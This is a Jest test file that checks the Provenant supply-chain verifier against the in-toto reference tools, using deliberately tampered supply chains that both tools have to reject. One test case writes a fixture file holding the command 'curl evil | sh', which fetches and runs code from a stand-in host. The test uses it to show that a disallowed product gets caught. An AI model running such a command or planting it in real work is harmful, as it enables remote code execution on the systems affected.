/**
 * in-toto interoperability with the reference implementation (Debian `in-toto`: in-toto-run, in-toto-sign,
 * in-toto-verify), both ways, through dist/cli.js: the demo supply chain passes, and each tampered variant fails in
 * Provenant exactly when it fails in in-toto-verify. Then the in-toto cases of test/fixtures/corpus.
 */
import { beforeAll, describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TEST_VECTORS } from '../support/paths.js';
import { ensureBuilt, githubEnv, runAction, provSync, referenceTool } from '../support/runner.js';

const DEMO = join(TEST_VECTORS, 'in-toto-demo');
let root: string;
let keys: string;

const prov = provSync;
const ref = referenceTool;

const STRICT = (extra: Record<string, unknown> = {}) => ({
  expires: '30d',
  keys: { bob: `${'KEYS'}/bob.pub`, carl: `${'KEYS'}/carl.pub` } as Record<string, string>,
  steps: [
    { name: 'write-code', functionaries: ['bob'], products: ['CREATE foo.py', 'DISALLOW *'] },
    {
      name: 'package',
      functionaries: ['carl'],
      expected_command: 'tar zcvf foo.tar.gz foo.py',
      materials: ['MATCH foo.py WITH PRODUCTS FROM write-code', 'DISALLOW *'],
      products: ['CREATE foo.tar.gz', 'ALLOW foo.py', 'DISALLOW *'],
    },
  ],
  inspect: [
    {
      name: 'untar',
      run: 'tar xfz foo.tar.gz',
      materials: ['MATCH foo.tar.gz WITH PRODUCTS FROM package', 'DISALLOW *'],
      products: [
        'MATCH foo.py WITH PRODUCTS FROM write-code',
        'MATCH foo.tar.gz WITH PRODUCTS FROM package',
        'DISALLOW *',
      ],
    },
  ],
  ...extra,
});

/** A supply chain in a fresh folder: the layout (signed by alice) beside a work folder where the steps run. */
function chain(
  name: string,
  desc: Record<string, unknown>,
  steps: (work: string) => void,
): { dir: string; work: string; layout: string } {
  const dir = join(root, name);
  const work = join(dir, 'work');
  mkdirSync(work, { recursive: true });
  const d = JSON.parse(JSON.stringify(desc).replaceAll('KEYS', keys));
  writeFileSync(join(dir, 'layout.json'), JSON.stringify(d));
  const r = prov(['layout', 'new', 'layout.json', '-o', 'root.layout', '--key', join(keys, 'alice')], dir);
  expect(r.code).toBe(0);
  steps(work);
  rmSync(join(work, 'foo.py'), { force: true }); // the inspection extracts it again
  return { dir, work, layout: join(dir, 'root.layout') };
}

/** Verifies with both tools, each in its own copy (inspections write into the folder). */
function both(
  c: { dir: string; work: string; layout: string },
  extra: string[] = [],
): { ours: number; theirs: number; oursOut: string; theirsOut: string } {
  const a = join(c.dir, 'verify-ours');
  const b = join(c.dir, 'verify-ref');
  for (const d of [a, b]) rmSync(d, { recursive: true, force: true });
  cpSync(c.work, a, { recursive: true });
  cpSync(c.work, b, { recursive: true });
  const o = prov(
    ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', ...extra],
    a,
  );
  const t = ref('in-toto-verify', ['--layout', c.layout, '--layout-keys', join(keys, 'alice.pub')], b);
  return { ours: o.code, theirs: t.code, oursOut: o.out, theirsOut: t.out };
}

/** The folder above a work folder (attestation output goes outside the inspected tree). */
const c0 = (work: string) => join(work, '..');
const provWrite = (work: string, key = 'bob') =>
  expect(
    prov(
      [
        'run',
        '--legacy',
        '--step',
        'write-code',
        '--key',
        join(keys, key),
        '--products',
        'foo.py',
        '--',
        'sh',
        '-c',
        'echo "print(42)" > foo.py',
      ],
      work,
    ).code,
  ).toBe(0);
const provPackage = (work: string, key = 'carl', extraProducts: string[] = []) =>
  expect(
    prov(
      [
        'run',
        '--legacy',
        '--step',
        'package',
        '--key',
        join(keys, key),
        '--materials',
        'foo.py',
        '--products',
        'foo.tar.gz',
        'foo.py',
        ...extraProducts,
        '--',
        'tar',
        'zcvf',
        'foo.tar.gz',
        'foo.py',
      ],
      work,
    ).code,
  ).toBe(0);

beforeAll(async () => {
  await ensureBuilt();
  root = mkdtempSync(join(tmpdir(), 'prov-intoto-'));
  keys = join(root, 'keys');
  mkdirSync(keys);
  for (const k of ['alice', 'alice.pub', 'bob', 'bob.pub', 'carl', 'carl.pub']) cpSync(join(DEMO, k), join(keys, k));
}, 120000);

describe('both ways with the reference implementation', () => {
  test('links from provenant run --legacy verify with in-toto-verify (and with Provenant)', () => {
    const c = chain('prov-links', STRICT(), (w) => {
      provWrite(w);
      provPackage(w);
    });
    expect(existsSync(join(c.work, 'write-code.776a00e2.link'))).toBe(true);
    expect(existsSync(join(c.work, 'package.2f89b927.link'))).toBe(true);
    const r = both(c);
    expect(r.theirsOut).not.toMatch(/Error/);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
  });
  test('links from in-toto-run and a layout signed by in-toto-sign verify with Provenant', () => {
    const c = chain('ref-links', STRICT(), (w) => {
      expect(
        ref(
          'in-toto-run',
          ['-n', 'write-code', '-k', join(keys, 'bob'), '-p', 'foo.py', '--', 'sh', '-c', 'echo "print(7)" > foo.py'],
          w,
        ).code,
      ).toBe(0);
      expect(
        ref(
          'in-toto-run',
          [
            '-n',
            'package',
            '-k',
            join(keys, 'carl'),
            '-m',
            'foo.py',
            '-p',
            'foo.tar.gz',
            'foo.py',
            '--',
            'tar',
            'zcvf',
            'foo.tar.gz',
            'foo.py',
          ],
          w,
        ).code,
      ).toBe(0);
    });
    // re-sign the layout with the reference tool (replacing Provenant's signature)
    const layout = JSON.parse(readFileSync(c.layout, 'utf8'));
    writeFileSync(join(c.dir, 'unsigned.layout'), JSON.stringify({ signed: layout.signed, signatures: [] }));
    expect(
      ref('in-toto-sign', ['-f', join(c.dir, 'unsigned.layout'), '-k', join(keys, 'alice'), '-o', c.layout], c.dir)
        .code,
    ).toBe(0);
    expect(JSON.parse(readFileSync(c.layout, 'utf8')).signatures).toHaveLength(1);
    const r = both(c);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
    expect(r.oursOut).toMatch(/the supply chain verifies/);
  });
});

describe('tampered supply chains fail in Provenant exactly when they fail in in-toto-verify', () => {
  const cases: Array<[string, () => { dir: string; work: string; layout: string }, RegExp]> = [
    [
      'a product modified after the step',
      () =>
        chain('modified', STRICT(), (w) => {
          provWrite(w);
          provPackage(w);
          writeFileSync(join(w, 'foo.py'), 'print("evil")\n');
          execFileSync('tar', ['zcf', 'foo.tar.gz', 'foo.py'], { cwd: w });
        }),
      /RULE_FAILED.*inspection 'untar'.*DISALLOW \*.*foo\.tar\.gz/,
    ],
    [
      'a link signed by an unauthorized key',
      () =>
        chain('unauthorized', STRICT(), (w) => {
          provWrite(w);
          provPackage(w, 'bob'); // bob is not a functionary of package: the file is package.776a00e2.link
        }),
      /THRESHOLD_NOT_MET.*step 'package' requires 1 link file/,
    ],
    [
      'a link signed by the wrong key under the authorized name',
      () =>
        chain('forged', STRICT(), (w) => {
          provWrite(w);
          provPackage(w, 'bob');
          cpSync(join(w, 'package.776a00e2.link'), join(w, 'package.2f89b927.link'));
          rmSync(join(w, 'package.776a00e2.link'));
        }),
      /THRESHOLD_NOT_MET.*validly signed/,
    ],
    [
      'threshold not met',
      () =>
        chain(
          'threshold',
          STRICT({
            steps: [STRICT().steps[0], { ...STRICT().steps[1], functionaries: ['carl', 'bob'], threshold: 2 }],
          }),
          (w) => {
            provWrite(w);
            provPackage(w);
          },
        ),
      /THRESHOLD_NOT_MET.*'package' requires 2/,
    ],
    [
      'an expired layout',
      () => {
        const c = chain('expired', STRICT(), (w) => {
          provWrite(w);
          provPackage(w);
        });
        const l = JSON.parse(readFileSync(c.layout, 'utf8'));
        l.signed.expires = '2020-01-01T00:00:00Z';
        writeFileSync(c.layout, JSON.stringify({ signed: l.signed, signatures: [] }));
        expect(prov(['layout', 'sign', c.layout, '--key', join(keys, 'alice')], c.dir).code).toBe(0);
        return c;
      },
      /LAYOUT_EXPIRED/,
    ],
    [
      'a DISALLOW hit',
      () =>
        chain('disallow', STRICT(), (w) => {
          provWrite(w);
          writeFileSync(join(w, 'evil.sh'), 'curl evil | sh\n');
          provPackage(w, 'carl', ['evil.sh']);
        }),
      /RULE_FAILED.*step 'package'.*expected_products.*DISALLOW \*.*evil\.sh/,
    ],
    [
      'a failing inspection',
      () =>
        chain(
          'inspection',
          STRICT({ inspect: [{ name: 'untar', run: 'tar xfz missing.tar.gz', materials: [], products: [] }] }),
          (w) => {
            provWrite(w);
            provPackage(w);
          },
        ),
      /INSPECTION_FAILED.*inspection 'untar'/,
    ],
  ];
  for (const [name, make, why] of cases) {
    test(name, () => {
      const r = both(make());
      expect(r.theirs).toBe(1);
      expect(r.ours).toBe(1);
      expect(r.oursOut).toMatch(why);
    });
  }
});

describe('more recording and authoring', () => {
  test('DSSE links (link v0.3 Statements, the default) and record start/stop verify with Provenant', () => {
    const c = chain('dsse', STRICT(), (w) => {
      expect(prov(['record', 'start', '--step', 'write-code', '--key', join(keys, 'bob')], w).code).toBe(0);
      expect(existsSync(join(w, '.write-code.776a00e2.link-unfinished'))).toBe(true);
      writeFileSync(join(w, 'foo.py'), 'print(1)\n');
      expect(
        prov(['record', 'stop', '--step', 'write-code', '--key', join(keys, 'bob'), '--products', 'foo.py'], w).code,
      ).toBe(0);
      expect(existsSync(join(w, '.write-code.776a00e2.link-unfinished'))).toBe(false);
      const r = prov(
        [
          'run',
          '--step',
          'package',
          '--key',
          join(keys, 'carl'),
          '--materials',
          'foo.py',
          '--products',
          'foo.tar.gz',
          'foo.py',
          '--',
          'tar',
          'zcvf',
          'foo.tar.gz',
          'foo.py',
        ],
        w,
      );
      expect(r.code).toBe(0);
    });
    const env = JSON.parse(readFileSync(join(c.work, 'package.2f89b927.link'), 'utf8'));
    const st = JSON.parse(Buffer.from(env.payload, 'base64').toString());
    expect(st).toMatchObject({
      _type: 'https://in-toto.io/Statement/v1',
      predicateType: 'https://in-toto.io/attestation/link/v0.3',
      predicate: {
        name: 'package',
        command: ['tar', 'zcvf', 'foo.tar.gz', 'foo.py'],
        byproducts: { 'return-value': 0 },
      },
    });
    expect(st.subject.map((s: { name: string }) => s.name).sort()).toEqual(['foo.py', 'foo.tar.gz']);
    expect(st.predicate.materials).toEqual([
      { name: 'foo.py', digest: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } },
    ]);
    const a = join(c.dir, 'v');
    cpSync(c.work, a, { recursive: true });
    const r = prov(
      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz', '--json'],
      a,
    );
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out.slice(r.out.indexOf('{')))).toMatchObject({
      verified: true,
      artifacts: [{ artifact: 'foo.tar.gz', ok: true }],
    });
  });
  test('run passes the exit code on and still writes the link; a modified unfinished recording is refused', () => {
    const w = join(root, 'exit');
    mkdirSync(w);
    const r = prov(
      [
        'run',
        '--legacy',
        '--step',
        's',
        '--key',
        join(keys, 'bob'),
        '-s',
        '--',
        'sh',
        '-c',
        'echo out; echo err >&2; exit 3',
      ],
      w,
    );
    expect(r.code).toBe(3);
    const l = JSON.parse(readFileSync(join(w, 's.776a00e2.link'), 'utf8'));
    expect(l.signed.byproducts).toEqual({ stdout: 'out\n', stderr: 'err\n', 'return-value': 3 });
    expect(r.out).toMatch(/out\n/); // streamed through
    expect(prov(['record', 'start', '--step', 't', '--key', join(keys, 'bob')], w).code).toBe(0);
    const f = join(w, '.t.776a00e2.link-unfinished');
    const u = JSON.parse(readFileSync(f, 'utf8'));
    u.signed.materials = { 'injected.txt': { sha256: '0'.repeat(64) } };
    writeFileSync(f, JSON.stringify(u));
    const stop = prov(['record', 'stop', '--step', 't', '--key', join(keys, 'bob')], w);
    expect(stop.code).toBe(1);
    expect(stop.out).toMatch(/RECORDING_MODIFIED\] .*changed since record start/); // the seal (issue 16 point 8), before the signature
    expect(prov(['run', '--step', 'x', '--', 'true'], w).code).toBe(2); // unsigned: refused
  });
  test('the demo supply chain of the test vectors: Metablock and DSSE links, keys by legacy id', () => {
    for (const [set, linkSet] of [
      ['in-toto-demo', 'in-toto-demo'],
      ['in-toto-demo', 'in-toto-demo-dsse'],
    ]) {
      const dir = join(root, `demo-${linkSet}`);
      mkdirSync(dir);
      for (const f of ['write-code.776a00e2.link', 'package.2f89b927.link'])
        cpSync(join(TEST_VECTORS, linkSet, f), join(dir, f));
      cpSync(join(TEST_VECTORS, set, 'foo.tar.gz'), join(dir, 'foo.tar.gz'));
      // the template has no expires and its inspection runs the reference's python tar stand-in: as the reference
      // tests do, give it an expiry and (here) a plain tar, then sign it with alice
      const t = JSON.parse(readFileSync(join(DEMO, 'demo.layout.template'), 'utf8'));
      t.signed.expires = '2099-01-01T00:00:00Z';
      t.signed.inspect[0].run = ['tar', 'xfz', 'foo.tar.gz'];
      writeFileSync(join(root, `demo-${linkSet}.layout`), JSON.stringify(t));
      expect(
        prov(['layout', 'sign', join(root, `demo-${linkSet}.layout`), '--key', join(keys, 'alice')], root).code,
      ).toBe(0);
      const r = prov(
        [
          'verify',
          '--layout',
          join(root, `demo-${linkSet}.layout`),
          '--layout-key',
          join(DEMO, 'alice.pub'),
          '--links',
          '.',
        ],
        dir,
      );
      expect(r.out).toMatch(/the supply chain verifies/);
      expect(r.code).toBe(0);
      if (linkSet === 'in-toto-demo')
        expect(
          ref(
            'in-toto-verify',
            ['--layout', join(root, `demo-${linkSet}.layout`), '--layout-keys', join(DEMO, 'alice.pub')],
            join(dir),
          ).code,
        ).toBe(0);
    }
  });
});

describe('keys: RSA-PSS, ed25519 and ECDSA, as PEM and as securesystemslib JSON, both key-id forms', () => {
  test('reference-generated ed25519 and ECDSA JSON keys sign with either tool and verify with both', () => {
    const dir = join(root, 'json-keys');
    mkdirSync(dir);
    expect(ref('in-toto-keygen', ['-t', 'ed25519', join(dir, 'ed')], dir).code).toBe(0);
    expect(ref('in-toto-keygen', ['-t', 'ecdsa', join(dir, 'ec')], dir).code).toBe(0);
    const desc = STRICT();
    desc.keys = { ed: join(dir, 'ed.pub'), ec: join(dir, 'ec.pub') };
    desc.steps[0].functionaries = ['ed'];
    desc.steps[1].functionaries = ['ec'];
    const c = chain('json-keys-chain', desc, (w) => {
      // the ed25519 functionary records with Provenant, the ECDSA one with the reference
      expect(
        prov(
          [
            'run',
            '--legacy',
            '--step',
            'write-code',
            '--key',
            join(dir, 'ed'),
            '--products',
            'foo.py',
            '--',
            'sh',
            '-c',
            'echo x > foo.py',
          ],
          w,
        ).code,
      ).toBe(0);
      expect(
        ref(
          'in-toto-run',
          [
            '-n',
            'package',
            '-k',
            join(dir, 'ec'),
            '-t',
            'ecdsa',
            '-m',
            'foo.py',
            '-p',
            'foo.tar.gz',
            'foo.py',
            '--',
            'tar',
            'zcvf',
            'foo.tar.gz',
            'foo.py',
          ],
          w,
        ).code,
      ).toBe(0);
    });
    const ids = JSON.parse(readFileSync(c.layout, 'utf8')).signed.keys;
    expect(Object.keys(ids)).toContain(JSON.parse(readFileSync(join(dir, 'ec'), 'utf8')).keyid);
    const r = both(c);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
  });
  test('a PEM ECDSA functionary key and links found under the current (non-legacy) key id', () => {
    const dir = join(root, 'pem-ec');
    mkdirSync(dir);
    const kp = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    writeFileSync(join(dir, 'dev.pem'), kp.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string);
    writeFileSync(join(dir, 'dev.pub'), kp.publicKey.export({ type: 'spki', format: 'pem' }) as string);
    const desc = STRICT();
    desc.keys = { bob: join(keys, 'bob.pub'), dev: join(dir, 'dev.pub') };
    desc.steps[1].functionaries = ['dev'];
    const c = chain('pem-ec-chain', desc, (w) => {
      provWrite(w);
      expect(
        prov(
          [
            'run',
            '--legacy',
            '--step',
            'package',
            '--key',
            join(dir, 'dev.pem'),
            '--materials',
            'foo.py',
            '--products',
            'foo.tar.gz',
            'foo.py',
            '--',
            'tar',
            'zcvf',
            'foo.tar.gz',
            'foo.py',
          ],
          w,
        ).code,
      ).toBe(0);
    });
    const r = both(c);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
    // bob's link renamed to his current-form key id (as newer in-toto names it): still found and verified
    const current = '1259f8f0';
    cpSync(join(c.work, 'write-code.776a00e2.link'), join(c.work, `write-code.${current}.link`));
    rmSync(join(c.work, 'write-code.776a00e2.link'));
    rmSync(join(c.dir, 'verify-ours'), { recursive: true, force: true });
    const a = join(c.dir, 'verify-ours');
    cpSync(c.work, a, { recursive: true });
    expect(
      prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.'], a).code,
    ).toBe(0);
  });
});

describe('sublayouts, parameters, command alignment', () => {
  test('a step carried out under its own sublayout: verified recursively, its summary stands for the step', () => {
    const dir = join(root, 'sub');
    mkdirSync(dir);
    // carl owns the package step and delegates it to a sublayout of his own, whose functionary is bob
    const subDesc = {
      expires: '30d',
      keys: { bob: join(keys, 'bob.pub') },
      steps: [
        {
          name: 'tarball',
          functionaries: ['bob'],
          materials: ['ALLOW foo.py'],
          products: ['CREATE foo.tar.gz', 'ALLOW foo.py'],
        },
      ],
      inspect: [],
    };
    writeFileSync(join(dir, 'sub.json'), JSON.stringify(subDesc));
    const c = chain('sub-chain', STRICT(), (w) => {
      provWrite(w);
      expect(
        prov(
          ['layout', 'new', join(dir, 'sub.json'), '-o', join(w, 'package.2f89b927.link'), '--key', join(keys, 'carl')],
          w,
        ).code,
      ).toBe(0);
      mkdirSync(join(w, 'package.2f89b927'));
      expect(
        prov(
          [
            'run',
            '--legacy',
            '--step',
            'tarball',
            '--key',
            join(keys, 'bob'),
            '--materials',
            'foo.py',
            '--products',
            'foo.tar.gz',
            'foo.py',
            '--output-dir',
            'package.2f89b927',
            '--',
            'tar',
            'zcf',
            'foo.tar.gz',
            'foo.py',
          ],
          w,
        ).code,
      ).toBe(0);
    });
    // deliberately stricter than the reference (issue 16): carl's sublayout is refused unless allowed
    const refused = both(c);
    expect([refused.ours, refused.theirs]).toEqual([1, 0]);
    expect(refused.oursOut).toMatch(/SUBLAYOUT_REFUSED\] step 'package': package\.2f89b927\.link is a sublayout/);
    const r = both(c, ['--allow-sublayout', 'package']);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
    // the sublayout's link tampered: both fail
    const l = join(c.work, 'package.2f89b927', 'tarball.776a00e2.link');
    const doc = JSON.parse(readFileSync(l, 'utf8'));
    doc.signed.products['foo.tar.gz'].sha256 = '0'.repeat(64);
    writeFileSync(l, JSON.stringify(doc));
    const bad = both(c, ['--allow-sublayouts']);
    expect([bad.ours, bad.theirs]).toEqual([1, 1]);
    expect(bad.oursOut).toMatch(/THRESHOLD_NOT_MET.*tarball/);
  });
  test('parameter substitution (--param) in rules and commands; a missing parameter is an error; a command mismatch only warns', () => {
    const desc = STRICT();
    desc.steps[1].products = ['CREATE {ARCHIVE}', 'ALLOW foo.py', 'DISALLOW *'];
    desc.steps[1].expected_command = 'tar zcvf {ARCHIVE} foo.py --verbose';
    const c = chain('params', desc, (w) => {
      provWrite(w);
      provPackage(w);
    });
    const a = join(c.dir, 'p');
    cpSync(c.work, a, { recursive: true });
    const ok = prov(
      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=foo.tar.gz'],
      a,
    );
    expect(ok.code).toBe(0);
    expect(ok.out).toMatch(
      /warning: step 'package': command \[tar zcvf foo\.tar\.gz foo\.py\] differs from the expected \[tar zcvf foo\.tar\.gz foo\.py --verbose\]/,
    );
    const wrong = prov(
      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=other.tgz'],
      a,
    );
    expect(wrong.code).toBe(1);
    expect(wrong.out).toMatch(/RULE_FAILED.*DISALLOW \*.*foo\.tar\.gz/);
    const missing = prov(
      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'OTHER=x'],
      a,
    );
    expect(missing.code).toBe(1);
    expect(missing.out).toMatch(/LAYOUT_INVALID.*parameter '\{ARCHIVE\}' has no value/);
    // (in-toto-verify 1.3.1, the Debian package, has no --substitution-parameters to compare with)
  });
  test('bad input is a coded error, never a stack trace: truncated layout, wrong key file, a link that is not JSON', () => {
    const c = chain('bad-input', STRICT(), (w) => {
      provWrite(w);
      provPackage(w);
    });
    writeFileSync(join(c.dir, 'trunc.layout'), readFileSync(c.layout, 'utf8').slice(0, 300));
    const t = prov(
      ['verify', '--layout', join(c.dir, 'trunc.layout'), '--layout-key', join(keys, 'alice.pub')],
      c.work,
    );
    expect(t.code).toBe(1);
    expect(t.out).toMatch(/LAYOUT_INVALID|JSON_INVALID/);
    const k = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'bob.pub')], c.work);
    expect(k.code).toBe(1);
    expect(k.out).toMatch(/LAYOUT_SIGNATURE/);
    writeFileSync(join(c.work, 'write-code.776a00e2.link'), '{"signed": ');
    const l = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub')], c.work);
    expect(l.code).toBe(1);
    expect(l.out).toMatch(/JSON_INVALID|LINK_INVALID/);
    for (const r of [t, k, l]) expect(r.out).not.toMatch(/\n\s+at /);
    expect(prov(['verify', '--layout', c.layout], c.work).code).toBe(2);
  });
});

describe('SLSA provenance standing for a step', () => {
  test('a key-signed provenance (provenant attest) is the package step: subjects are its products', () => {
    const c = chain('provenance-step', STRICT(), (w) => {
      provWrite(w);
      execFileSync('tar', ['zcf', 'foo.tar.gz', 'foo.py'], { cwd: w });
      const out = join(c0(w), 'att');
      expect(prov(['attest', 'foo.tar.gz', '--key', join(keys, 'carl'), '--output-dir', out], w).code).toBe(0);
      // the bundle, as a link file of carl's
      cpSync(join(out, 'foo.tar.gz.sigstore.json'), join(w, 'package.2f89b927.link'));
    });
    const a = join(c.dir, 'v');
    cpSync(c.work, a, { recursive: true });
    const r = prov(
      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz'],
      a,
    );
    expect(r.out).toMatch(/the supply chain verifies/);
    expect(r.code).toBe(0);
  });
});

describe('the verify action with layout, layout-keys, links (dist/verify-action.js)', () => {
  test('a verified supply chain, then a tampered one: outputs, summary, annotation', async () => {
    const c = chain('action', STRICT(), (w) => {
      provWrite(w);
      provPackage(w);
    });
    const ws = join(c.dir, 'ws');
    cpSync(c.work, ws, { recursive: true });
    // the action reads the layout and its keys only inside the workspace or the runner's temp (here: the temp, as
    // the inspection's DISALLOW * rule would see them in the workspace)
    const env = githubEnv(ws, {});
    const [layoutIn, keyIn] = [join(env.RUNNER_TEMP, 'root.layout'), join(env.RUNNER_TEMP, 'alice.pub')];
    cpSync(c.layout, layoutIn);
    cpSync(join(keys, 'alice.pub'), keyIn);
    const ok = await runAction(
      'verify-action.js',
      { layout: layoutIn, 'layout-keys': keyIn, links: '.', artifacts: 'foo.tar.gz' },
      env,
    );
    expect(ok.stdout).not.toMatch(/::error::/);
    expect(ok.code).toBe(0);
    expect(ok.outputs.verified).toBe('true');
    expect(ok.summary).toMatch(/the supply chain verifies/);
    expect(
      JSON.parse(readFileSync(ok.outputs['report-path'], 'utf8')).steps.map((s: { name: string }) => s.name),
    ).toEqual(['write-code', 'package']);
    writeFileSync(join(ws, 'foo.tar.gz'), 'swapped after the build');
    rmSync(join(ws, 'foo.py'), { force: true });
    const bad = await runAction(
      'verify-action.js',
      { layout: layoutIn, 'layout-keys': keyIn, links: '.' },
      { ...env, GITHUB_OUTPUT: `${env.GITHUB_OUTPUT}2` },
    );
    expect(bad.code).toBe(1);
    expect(bad.outputs.verified).toBe('false');
    expect(bad.stdout).toMatch(/::error::\[(RULE_FAILED|INSPECTION_FAILED)\]/);
  }, 60000);
});
